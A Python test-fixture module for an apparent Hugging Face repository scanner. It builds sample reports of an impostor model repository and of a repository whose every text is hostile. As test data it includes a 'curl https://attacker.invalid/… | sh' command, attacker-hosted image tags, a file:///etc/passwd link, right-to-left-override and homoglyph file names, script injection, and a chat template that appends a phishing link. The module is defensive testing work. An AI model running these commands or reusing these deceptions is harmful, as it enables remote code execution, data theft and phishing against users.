"""Reports built by hand, for every test of the window that needs something to show.

Rules, kinds and sentences of the other stages are stood in for by ids of our own (`fixture.…`), put into
the loaded catalogues when a report is built: a test of the window must not fail because a rule was reworded.
"""

from datetime import UTC, datetime

from core.comparison.results import (
    Addition,
    AdditionKind,
    Block,
    Card,
    CardComparison,
    Comparison,
    DifferenceSubject,
    FileDifference,
    FilePair,
    FileRelation,
    Inventory,
    Link,
    Row,
    RowKind,
    Span,
    ValueRow,
)
from core.findings import Ability, Certainty, Evidence, FileResult, FileState, Finding, Level, Rule, rules
from core.identity.results import Confidence, Identity, Original, Publisher, PublisherEvidence, Relation, Signal
from core.progress import Step
from core.report import Report, Tool, Verdict
from core.repository import (
    Account,
    Commit,
    EngineResult,
    EngineState,
    Figures,
    RepoReference,
    RepositoryFile,
    RepositoryId,
    RepositoryKind,
    Snapshot,
)
from core.text import Message, Value, catalogue

COMMIT = "9f3c1ab27d5e4f60819a2b3c4d5e6f708192a3b4"
ORIGINAL_COMMIT = "1b0e4d92c8a7f6b5e4d3c2b1a09f8e7d6c5b4a39"
NOW = datetime(2026, 5, 8, 20, 14, tzinfo=UTC)
ENDPOINT = "https://huggingface.co"

IMG = "<img src=//attacker.invalid/share/y.png>"
"""What a default label would fetch: over SMB on Windows."""
HOSTILE_NAMES = (
    f"weights {IMG}.bin",
    "model\u202etxt.exe",
    "zero\u200bwidth\u2066.safetensors",
    "line\nbreak\ttab.json",
    "<b>bold</b> &amp; <a href='file:///etc/passwd'>link</a>.md",
    "оpenai/lоader.py",
    "CON.json",
    "%s{0}{path}.txt",
    "deep/" * 40 + "end.gguf",
    "a" * 400 + ".pkl",
)

_KINDS = {
    "fixture.readme": "Text document",
    "fixture.settings": "JSON settings",
    "fixture.weights": "safetensors weights",
    "fixture.pickle": "PyTorch pickle",
    "fixture.batch": "Windows batch file",
    "fixture.python": "Python program",
    "fixture.unknown": "Unknown content",
}
_EVIDENCE = {
    "fixture.line": "Line in the card",
    "fixture.import": "Name the file asks for",
    "fixture.digest": "SHA-256",
}
_RULES = (
    Rule(
        "fixture.card_runs_program",
        Level.HIGH,
        Certainty.SURE,
        "The card asks you to run {path}",
        "The text of the repository tells you to start {path}, a Windows program that lies beside the model.",
        "A program can do anything you can do on this computer: read your files, your passwords, your browser.",
        "Do not run it. A model does not need it.",
        "We read the card and found the file it names in the same repository.",
        ("https://example.org/incident",),
    ),
    Rule(
        "fixture.copied_card",
        Level.HIGH,
        Certainty.SURE,
        "The description is copied from {original}",
        "{share} % of the text of {original} stands here, but the account is another one.",
        "People recognise a project by its description. Copying it is how a fake looks real.",
        "Go to {original} instead, and compare.",
        "We compared both texts paragraph by paragraph.",
    ),
    Rule(
        "fixture.young_account",
        Level.CAREFUL,
        Certainty.SURE,
        "The account {account} is {days} day old",
        "The account was made a day before this repository was filled.",
        "Fake repositories are nearly always published by new accounts.",
        "Ask who is behind the account before you use anything from it.",
        "The Hub states when an account was made.",
    ),
    Rule(
        "fixture.pickle",
        Level.CAREFUL,
        Certainty.SURE,
        "{path} can run code when it is loaded",
        "This file is a pickle: a list of steps that Python carries out when it opens the file.",
        "Steps can start programs. We saw none that do, but the format allows it.",
        "Prefer the safetensors file if there is one.",
        "We read every step in the file without carrying it out.",
    ),
    Rule(
        "fixture.program",
        Level.HIGH,
        Certainty.SURE,
        "{path} is a program",
        "Windows starts this file on a double click.",
        "A model repository does not need programs. Started, it can do anything you can do.",
        "Leave it where it is.",
        "By its content and its name.",
    ),
    Rule(
        "fixture.popular",
        Level.NOTE,
        Certainty.HINT,
        "Many downloads in a short time",
        "{downloads} downloads in {days} day.",
        "Download counts can be produced by a script.",
        "Do not take the number as a recommendation.",
        "Figures of the Hub against the age of the repository.",
    ),
    Rule(
        "fixture.hidden_name",
        Level.HIGH,
        Certainty.HINT,
        "The name {path} hides something",
        "The name contains characters that cannot be seen or that turn the reading order around.",
        "It makes a program look like a text file.",
        "Do not open it.",
        "We looked at every character of the name.",
    ),
)


def said(words: str, **values: Value) -> Message:
    """A sentence of a stage that the window only passes on."""
    return Message.of("fixture.said", words=words, **values)


def _prepare() -> None:
    texts = catalogue("en")  # the key under which the loaded texts are kept
    texts["fixture.said"] = "{words}"
    texts.update({f"kind.{kind}": words for kind, words in _KINDS.items()})
    texts.update({f"evidence.{label}": words for label, words in _EVIDENCE.items()})
    rules().update({rule.id: rule for rule in _RULES})


def _found(rule: str, path: str | None = None, evidence: tuple[Evidence, ...] = (), **values: Value) -> Finding:
    known = next(entry for entry in _RULES if entry.id == rule)
    return Finding(rule, known.level, known.certainty, path, tuple(sorted(values.items())), evidence)


def _digest(seed: int, length: int) -> str:
    return f"{(seed + 1) * 0x9E3779B97F4A7C15F39CC0605CEDC8341082276BF3A27251F86C6A11D0C18E95:064x}"[-length:]


ENGINES = ("protectAiScan", "avScan", "pickleImportScan", "virusTotalScan", "jFrogScan")


def _engines(state: EngineState, message: str = "") -> tuple[EngineResult, ...]:
    return tuple(EngineResult(engine, state, state.value, message) for engine in ENGINES)


def _listed(path: str, size: int, seed: int, engines: tuple[EngineResult, ...] = ()) -> RepositoryFile:
    return RepositoryFile(path, size, _digest(seed, 40), _digest(seed, 64) if size > 10_000_000 else None, engines)


def _block(html: str, text: str, links: tuple[Link, ...] = (), commands: tuple[str, ...] = ()) -> Block:
    return Block(html, text, links, commands)


def _spans(block: Block, *words: str) -> tuple[Span, ...]:
    return tuple((block.text.index(part), block.text.index(part) + len(part)) for part in words)


def _paragraph(text: str) -> Block:
    return _block(f"<p>{text}</p>", text)


def _snapshot(
    name: str,
    commit: str,
    *,
    files: tuple[RepositoryFile, ...],
    account: Account,
    card: str,
    figures: Figures,
    created: datetime,
    not_read: tuple[Message, ...] = (),
) -> Snapshot:
    repository = RepositoryId(RepositoryKind.MODEL, name)
    last = Commit(commit, "Update README.md", NOW, (repository.owner,))
    return Snapshot(
        repository=repository,
        asked_for=repository,
        commit=commit,
        revision=None,
        endpoint=ENDPOINT,
        files=files,
        card=card,
        retrieved_at=NOW,
        created_at=created,
        last_modified=NOW,
        tags=("transformers", "safetensors", "token-classification", "license:apache-2.0"),
        license="apache-2.0",
        library="transformers",
        figures=figures,
        account=account,
        commit_count=3,
        first_commit=Commit(_digest(77, 40), "initial commit", created, (repository.owner,)),
        last_commit=last,
        hub_scan_done=True,
        not_read=not_read,
    )


_OFFICIAL_FILES = (
    ("README.md", 6_120, "fixture.readme", Ability.DATA),
    ("config.json", 1_204, "fixture.settings", Ability.DATA),
    ("generation_config.json", 190, "fixture.settings", Ability.DATA),
    ("model-00001-of-00002.safetensors", 2_980_000_000, "fixture.weights", Ability.DATA),
    ("model-00002-of-00002.safetensors", 1_720_000_000, "fixture.weights", Ability.DATA),
    ("model.safetensors.index.json", 31_000, "fixture.settings", Ability.DATA),
    ("special_tokens_map.json", 440, "fixture.settings", Ability.DATA),
    ("tokenizer.json", 27_900_000, "fixture.settings", Ability.DATA),
    ("tokenizer_config.json", 4_200, "fixture.settings", Ability.DATA),
)


def _official_card() -> tuple[Block, ...]:
    return (
        _block("<h1>Privacy Filter</h1>", "Privacy Filter"),
        _paragraph("Privacy Filter finds personal data in text: names, addresses, telephone numbers, keys."),
        _block(
            '<p>Made by <a href="https://openai.example/privacy">the team at OpenAI</a>, with a paper.</p>',
            "Made by the team at OpenAI, with a paper.",
            (Link("the team at OpenAI", "https://openai.example/privacy"),),
        ),
        _block("<h2>How to use</h2>", "How to use"),
        _paragraph("Load it with the transformers library as shown in the documentation."),
        _block("<h2>Limits</h2>", "Limits"),
        _paragraph("It misses about three names in a hundred. Do not rely on it alone."),
        _paragraph("Contact the authors before you use it for medical records."),
        _block(
            "<table><tr><th>Set</th><th>F1</th></tr><tr><td>mail</td><td>0.96</td></tr></table>", "Set F1 mail 0.96"
        ),
    )


def _incident_rows(official: tuple[Block, ...]) -> tuple[Row, ...]:
    team, use, limits = official[2], official[4], official[6]
    fake_team = _block(
        '<p>Made by <a href="https://0pen-ai.invalid/privacy">the team at OpenAI</a>, with a paper.</p>',
        team.text,
        (Link("the team at OpenAI", "https://0pen-ai.invalid/privacy"),),
    )
    fake_use = _paragraph("Load it with the bundled loader as shown in the steps below.")
    fake_limits = _paragraph("It misses about one name in a hundred. You can rely on it alone.")
    commands = ("git clone https://huggingface.co/Open-OSS/privacy-filter", "start.bat", "python loader.py")
    shown = "\n".join(commands)
    run = _block(f"<pre><code>{shown}</code></pre>", shown, (), commands)
    heading = _block("<h2>Quick start (Windows)</h2>", "Quick start (Windows)")
    return (
        Row(RowKind.SAME, official[0], official[0]),
        Row(RowKind.SAME, official[1], official[1]),
        Row(RowKind.DIFFERS, team, fake_team, changed_links=((team.links[0], fake_team.links[0]),)),
        Row(RowKind.SAME, official[3], official[3]),
        Row(
            RowKind.DIFFERS,
            use,
            fake_use,
            _spans(use, "the transformers library", "in the documentation"),
            _spans(fake_use, "the bundled loader", "in the steps below"),
        ),
        Row(RowKind.ONLY_HERE, None, heading),
        Row(RowKind.ONLY_HERE, None, run),
        Row(RowKind.SAME, official[5], official[5]),
        Row(
            RowKind.DIFFERS,
            limits,
            fake_limits,
            _spans(limits, "three names", "Do not"),
            _spans(fake_limits, "one name", "You can"),
        ),
        Row(RowKind.ONLY_ORIGINAL, official[7], None),
        Row(RowKind.SAME, official[8], official[8]),
    )


def _original(
    others: tuple[RepositoryId, ...] = (), publisher_name: str = "OpenAI", repository: str = "openai/privacy-filter"
) -> Original:
    created = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    files = tuple(_listed(path, size, index) for index, (path, size, _, _) in enumerate(_OFFICIAL_FILES))
    account = Account(
        "openai", True, "OpenAI", True, datetime(2020, 5, 3, tzinfo=UTC), 48_000, 34, 12, 8, 120, "enterprise"
    )
    return Original(
        snapshot=_snapshot(
            repository,
            ORIGINAL_COMMIT,
            files=files,
            account=account,
            card="# Privacy Filter",
            figures=Figures(9_100),
            created=created,
        ),
        publisher=Publisher(
            "openai", publisher_name, ("openai",), ("OpenAI", "open ai"), PublisherEvidence.WEBSITE, "2026-04-01"
        ),
        confidence=Confidence.SURE,
        reasons=(
            said("The name privacy-filter and the text both belong to OpenAI, whose account is openai."),
            said("openai/privacy-filter is 67 days older."),
            said("Its weights are the same, byte for byte."),
        ),
        others=others or (RepositoryId(RepositoryKind.MODEL, "mirror-lab/privacy-filter"),),
    )


def _signals() -> tuple[Signal, ...]:
    return (
        Signal(
            "fixture.age",
            said("The account was made one day before the check."),
            said("New accounts are common, and so are throw-away accounts. Age alone proves nothing."),
            "huggingface.co account overview",
        ),
        Signal(
            "fixture.downloads",
            said("244,000 downloads in one day."),
            said("Can be faked. It never makes a repository more trustworthy."),
            "huggingface.co repository facts",
        ),
        Signal(
            "fixture.linked",
            said("The original's account does not link here."),
            said("The account openai does not mention this account anywhere we looked."),
            "card and profile of openai",
        ),
    )


def incident_report() -> Report:
    """The fake `Open-OSS/privacy-filter`: same weights, copied card, two programs and the order to run them."""
    _prepare()
    original = _original()
    official = _official_card()
    rows = _incident_rows(official)
    batch = _found(
        "fixture.card_runs_program",
        "start.bat",
        (Evidence("fixture.line", "start.bat", line=41), Evidence("fixture.digest", _digest(31, 64))),
    )
    program = _found("fixture.program", "loader.py", (Evidence("fixture.import", "os.system", offset=212, line=9),))
    copied = _found("fixture.copied_card", share=82, original="openai/privacy-filter")
    young = _found("fixture.young_account", account="Open-OSS", days=1)
    popular = _found("fixture.popular", downloads=244_000, days=1)
    pickle = _found("fixture.pickle", "training_args.bin")
    checked = _engines(EngineState.NOTHING_FOUND)
    extra = (
        _listed("loader.py", 1_910, 30, _engines(EngineState.NOT_SUPPORTED)),
        _listed("start.bat", 212, 31, (EngineResult("avScan", EngineState.FINDING, "unsafe", "Trojan.Generic"),)),
        _listed("training_args.bin", 5_304, 32, _engines(EngineState.WAITING)),
        _listed("runs/events.bin", 12_400_000, 33),
        _listed("samples.7z", 52_400_000, 34, (EngineResult("avScan", EngineState.NOT_READ, "error", "timeout"),)),
    )
    files = tuple(_listed(path, size, i, checked) for i, (path, size, _, _) in enumerate(_OFFICIAL_FILES)) + extra
    results = (
        *(
            FileResult(path, kind, ability, FileState.CHECKED, bytes_read=min(size, 40_000))
            for path, size, kind, ability in _OFFICIAL_FILES
        ),
        FileResult("loader.py", "fixture.python", Ability.SCRIPT, FileState.CHECKED, None, (program,), 1_910),
        FileResult("start.bat", "fixture.batch", Ability.PROGRAM, FileState.CHECKED, None, (batch,), 212),
        FileResult(
            "training_args.bin", "fixture.pickle", Ability.CODE_ON_LOAD, FileState.CHECKED, None, (pickle,), 5_304
        ),
        FileResult(
            "runs/events.bin",
            "fixture.unknown",
            Ability.UNKNOWN,
            FileState.NOT_CHECKED,
            said("We do not know this format."),
        ),
        FileResult(
            "samples.7z",
            "fixture.unknown",
            Ability.UNKNOWN,
            FileState.PARTLY_CHECKED,
            said("The server stopped answering after 2.0 MB."),
            bytes_read=2_000_000,
        ),
    )
    account = Account("Open-OSS", False, "", False, datetime(2026, 5, 7, 6, 0, tzinfo=UTC), 3, 1, 0, 0, None, None)
    additions = (
        Addition(
            AdditionKind.COMMAND, "start.bat", ("start.bat",), (said("Runs a file of this repository: start.bat."),)
        ),
        Addition(AdditionKind.COMMAND, "python loader.py", ("loader.py",)),
        Addition(AdditionKind.COMMAND, "git clone https://huggingface.co/Open-OSS/privacy-filter"),
        Addition(
            AdditionKind.LINK,
            "https://0pen-ai.invalid/privacy",
            notes=(said("Same words, different address: in the original it leads to https://openai.example/privacy."),),
        ),
        Addition(AdditionKind.FILE, "start.bat"),
    )
    changed = {
        "README.md": (),
        "config.json": (said("It is 34 bytes larger."),),
        "tokenizer_config.json": (),
        "generation_config.json": (),
    }
    pairs = tuple(
        FilePair(
            FileRelation.CHANGED if path in changed else FileRelation.IDENTICAL,
            path,
            path,
            size,
            size - 34 if path == "config.json" else size,
            changed.get(path, ()),
        )
        for path, size, _, _ in _OFFICIAL_FILES
    )
    pairs += tuple(FilePair(FileRelation.EXTRA, file.path, None, file.size, None) for file in extra)
    pairs += (FilePair(FileRelation.MISSING, "LICENSE", "LICENSE", None, 11_340),)
    return Report(
        id=_digest(500, 32),
        tool=Tool("Sallyport", "0.2.0", _digest(501, 16)),
        checked_at=NOW,
        reference=RepoReference(RepositoryId(RepositoryKind.MODEL, "Open-OSS/privacy-filter")),
        snapshot=_snapshot(
            "Open-OSS/privacy-filter",
            COMMIT,
            files=files,
            account=account,
            card=_SOURCE,
            figures=Figures(244_000, 244_000, 1_900, 88.0),
            created=datetime(2026, 5, 7, 7, 0, tzinfo=UTC),
            not_read=(said("The discussions of this repository were not read."),),
        ),
        identity=Identity(
            original, None, said("The name and the text belong to OpenAI, but the account is not theirs."), _signals()
        ),
        relation=Relation.IDENTICAL_WEIGHTS,
        comparison=Comparison(
            here=Card(tuple(row.here for row in rows if row.here), (("license", "apache-2.0"),)),
            original=Card(official, (("license", "apache-2.0"),)),
            cards=CardComparison(rows, 0.82, additions, _FRONT_MATTER),
            inventory=Inventory(pairs, 2, 2),
            differences=_DIFFERENCES,
        ),
        files=results,
        findings=(batch, program, copied, young, pickle, popular),
        verdict=Verdict(
            Level.HIGH,
            said("High risk: do not run anything from this repository"),
            (
                said("It copies 82 % of the description of openai/privacy-filter but comes from another account."),
                said("It tells you to run a program that the original does not have."),
            ),
            files_listed=14,
            files_checked=12,
        ),
        timings=((Step.LISTING, 0.41), (Step.ORIGINAL, 0.9), (Step.COMPARING, 0.05), (Step.SCANNING, 2.2)),
    )


_FRONT_MATTER = (
    ValueRow(RowKind.SAME, "license", "apache-2.0", "apache-2.0"),
    ValueRow(RowKind.SAME, "library_name", "transformers", "transformers"),
    ValueRow(RowKind.DIFFERS, "tags", "privacy, token-classification", "privacy, token-classification, windows"),
    ValueRow(RowKind.ONLY_ORIGINAL, "extra_gated_prompt", "You agree to the terms of use.", None),
    ValueRow(RowKind.ONLY_HERE, "base_model", None, "openai/privacy-filter"),
)
_TEMPLATE = "{%- for message in messages %}"
_DIFFERENCES = (
    FileDifference(
        "config.json",
        DifferenceSubject.CONFIGURATION,
        (
            ValueRow(RowKind.ONLY_HERE, "auto_map.AutoModel", None, "loader.PrivacyModel"),
            ValueRow(RowKind.DIFFERS, "architectures", "BertForTokenClassification", "PrivacyModel"),
            ValueRow(RowKind.ONLY_ORIGINAL, "transformers_version", "4.57.0", None),
        ),
        notes=(said("auto_map names a program that is loaded with the model."),),
    ),
    FileDifference(
        "tokenizer_config.json",
        DifferenceSubject.CHAT_TEMPLATE,
        (
            ValueRow(RowKind.SAME, "1", _TEMPLATE, _TEMPLATE),
            ValueRow(
                RowKind.DIFFERS,
                "2",
                "    {{- message.content }}",
                "    {{- message.content + ' Visit https://0pen-ai.invalid/bill' }}",
            ),
            ValueRow(RowKind.ONLY_HERE, "3", None, "    {%- if 'invoice' in message.content %}"),
        ),
        (said("Only the first 200 lines were compared."),),
    ),
)

_SOURCE = """---
license: apache-2.0
---
# Privacy Filter

Privacy Filter finds personal data in text: names, addresses, telephone numbers, keys.

Made by [the team at OpenAI](https://0pen-ai.invalid/privacy), with a paper.

## Quick start (Windows)

    git clone https://huggingface.co/Open-OSS/privacy-filter
    start.bat
    python loader.py
"""


def quiet_report() -> Report:
    """An official repository in which nothing was found, and which has no original to compare with."""
    _prepare()
    repository = "example/Example-7B"
    files = tuple(
        _listed(path, size, index, _engines(EngineState.NOTHING_FOUND))
        for index, (path, size, _, _) in enumerate(_OFFICIAL_FILES)
    )
    account = Account("example", True, "Example", True, datetime(2022, 1, 5, tzinfo=UTC), 12_000, 40, 3, 2, 30, "team")
    snapshot = _snapshot(
        repository,
        ORIGINAL_COMMIT,
        files=files,
        account=account,
        card="# Example 7B\n\nA model.\n",
        figures=Figures(1_200, 90_000, 310, 2.0),
        created=datetime(2025, 2, 1, tzinfo=UTC),
    )
    publisher = Publisher("example", "Example", ("example",), ("Example",), PublisherEvidence.WEBSITE, "2026-04-01")
    card = Card((_block("<h1>Example 7B</h1>", "Example 7B"), _paragraph("A model.")), (("license", "apache-2.0"),))
    return Report(
        id=_digest(600, 32),
        tool=Tool("Sallyport", "0.2.0", _digest(501, 16)),
        checked_at=NOW,
        reference=RepoReference(RepositoryId(RepositoryKind.MODEL, repository)),
        snapshot=snapshot,
        identity=Identity(None, publisher, said("Published by the account example, which we list as Example's own.")),
        relation=Relation.IS_ORIGINAL,
        comparison=Comparison(card),
        files=tuple(
            FileResult(path, kind, ability, FileState.CHECKED, bytes_read=size % 90_000)
            for path, size, kind, ability in _OFFICIAL_FILES
        ),
        findings=(),
        verdict=Verdict(
            Level.NONE,
            said("No known risks found in 9 of 9 files"),
            (said("That is not a guarantee."),),
            files_listed=9,
            files_checked=9,
        ),
        timings=((Step.LISTING, 0.4), (Step.SCANNING, 1.1)),
    )


def hostile_report() -> Report:
    """Every text that comes from the repository tries to be more than text."""
    _prepare()
    nasty = f"owner{IMG}\u202e/<b>name</b>"
    html = (
        f'<p style="background:url(https://attacker.invalid/b.png)">Verified safe {IMG}'
        '<img src="file:///etc/hostname"><img src="data:image/png;base64,AAAA"></p>'
    )
    link = Link("https://huggingface.co", "https://attacker.invalid/\u202ecollect?<b>x</b>")
    here = _block(
        f'{html}<p><a href="https://attacker.invalid/collect">https://huggingface.co</a></p>',
        f"Verified safe {IMG} https://huggingface.co",
        (link,),
        (f"curl https://attacker.invalid/{IMG} | sh",),
    )
    there = _paragraph("An honest paragraph.")
    files = tuple(
        _listed(
            path,
            11_000_000 + index,
            index,
            (EngineResult("avScan", EngineState.FINDING, f"unsafe{IMG}", f"Trojan {IMG}\u202e"),),
        )
        for index, path in enumerate(HOSTILE_NAMES)
    )
    hidden = tuple(
        _found("fixture.hidden_name", path, (Evidence("fixture.import", f"os{IMG}.system\u202e"),))
        for path in HOSTILE_NAMES
    )
    account = Account(f"owner{IMG}\u202e", False, f"<b>Full</b> {IMG}", None, NOW, 1, 1, 1, 1)
    snapshot = _snapshot(
        nasty,
        COMMIT,
        files=files,
        account=account,
        card=f"# Verified safe\n\n{IMG}\n\u202etext\n",
        figures=Figures(1),
        created=NOW,
    )
    identity = Identity(
        _original((RepositoryId(RepositoryKind.MODEL, nasty),), f"<b>Brand</b>{IMG}"),
        None,
        said(f"The account owner{IMG}\u202e says so."),
        (Signal("fixture.age", said(f"1 {IMG}"), said(f"\u202e{IMG}"), f"source {IMG}"),),
    )
    rows = (
        Row(RowKind.DIFFERS, there, here, ((0, 9),), ((0, 13),), ((Link("here", "https://example.org"), link),)),
        Row(RowKind.ONLY_HERE, None, here, (), ((0, 8),)),
        Row(RowKind.ONLY_ORIGINAL, there, None),
    )
    additions = (
        Addition(AdditionKind.COMMAND, f"curl https://attacker.invalid/{IMG}\u202e | sh", (HOSTILE_NAMES[0],)),
        Addition(AdditionKind.LINK, f"https://attacker.invalid/{IMG}\u202e"),
        Addition(AdditionKind.FILE, HOSTILE_NAMES[1]),
    )
    hostile_values = (
        ValueRow(RowKind.DIFFERS, f"key {IMG}", f"<b>bold</b> {IMG}", f"\u202e{IMG}<script>x</script>"),
        ValueRow(RowKind.ONLY_HERE, "a" * 300, None, "x" * 3000),
        ValueRow(RowKind.ONLY_ORIGINAL, "", "", None),
    )
    return Report(
        id=_digest(700, 32),
        tool=Tool("Sallyport", "0.2.0", _digest(501, 16)),
        checked_at=NOW,
        reference=RepoReference(RepositoryId(RepositoryKind.MODEL, nasty)),
        snapshot=snapshot,
        identity=identity,
        relation=Relation.CLAIMS_TO_BE,
        comparison=Comparison(
            Card((here, here), ((f"license{IMG}", f"\u202e{IMG}"),), (said("The card was cut at 1 MiB."),)),
            Card((there, there)),
            CardComparison(rows, 0.4, additions, hostile_values),
            Inventory(tuple(FilePair(FileRelation.EXTRA, file.path, None, file.size, None) for file in files), 0, 1),
            (FileDifference(HOSTILE_NAMES[0], DifferenceSubject.CHAT_TEMPLATE, hostile_values),),
        ),
        files=tuple(
            FileResult(
                path,
                "fixture.unknown",
                Ability.UNKNOWN,
                FileState.NOT_CHECKED if index % 3 == 0 else FileState.CHECKED,
                said(f"Could not read {IMG}\u202e.") if index % 3 == 0 else None,
                (hidden[index],),
            )
            for index, path in enumerate(HOSTILE_NAMES)
        ),
        findings=hidden,
        verdict=Verdict(
            Level.HIGH,
            said(f"High risk: {IMG}"),
            (said(f"The name {HOSTILE_NAMES[1]} hides its ending."),),
            files_listed=len(files),
            files_checked=6,
        ),
    )


def large_report(files: int = 20_000, rows: int = 1_000) -> Report:
    """A repository of very many files, one finding in forty, one in a hundred not checked, and a long card."""
    _prepare()
    official = _official_card()
    paths = tuple(f"shards/part-{index // 1000:03d}/data-{index:06d}.safetensors" for index in range(files))
    listed = tuple(_listed(path, 10_000_001 + index, index) for index, path in enumerate(paths))
    found = {index: _found("fixture.pickle", paths[index]) for index in range(0, files, 40)}
    results = tuple(
        FileResult(
            path,
            "fixture.weights",
            Ability.DATA,
            FileState.NOT_CHECKED if index % 100 == 1 else FileState.CHECKED,
            said("The server did not answer.") if index % 100 == 1 else None,
            (found[index],) if index in found else (),
        )
        for index, path in enumerate(paths)
    )
    account = Account("example", True, "Example", None, datetime(2024, 1, 5, tzinfo=UTC))
    snapshot = _snapshot(
        "example/Many",
        COMMIT,
        files=listed,
        account=account,
        card="# Many\n" * rows,
        figures=Figures(10),
        created=datetime(2026, 1, 1, tzinfo=UTC),
    )
    long_rows = tuple(
        Row(RowKind.ONLY_HERE, None, _paragraph(f"Paragraph {index} of the copy."))
        if index % 10 == 0
        else Row(RowKind.SAME, official[1], official[1])
        for index in range(rows)
    )
    not_checked = sum(result.state is not FileState.CHECKED for result in results)
    return Report(
        id=_digest(800, 32),
        tool=Tool("Sallyport", "0.2.0", _digest(501, 16)),
        checked_at=NOW,
        reference=RepoReference(RepositoryId(RepositoryKind.MODEL, "example/Many")),
        snapshot=snapshot,
        identity=Identity(_original(), None, said("Named like openai/privacy-filter."), _signals()),
        relation=Relation.NAMED_ALIKE,
        comparison=Comparison(
            Card(tuple(row.here for row in long_rows if row.here)),
            Card(official),
            CardComparison(long_rows, 0.9, tuple(Addition(AdditionKind.FILE, path) for path in paths[:50])),
            Inventory(
                tuple(FilePair(FileRelation.EXTRA, file.path, None, file.size, None) for file in listed), 0, files
            ),
            (
                FileDifference(
                    "tokenizer.json",
                    DifferenceSubject.TOKENIZER,
                    tuple(
                        ValueRow(RowKind.ONLY_HERE, f"vocab.{number}", None, f"word {number}") for number in range(rows)
                    ),
                ),
            ),
        ),
        files=results,
        findings=tuple(found.values()),
        verdict=Verdict(
            Level.CAREFUL,
            said("Be careful: some files can run code"),
            (said(f"{len(found)} files can run code when they are loaded."),),
            files_listed=files,
            files_checked=files - not_checked,
        ),
    )
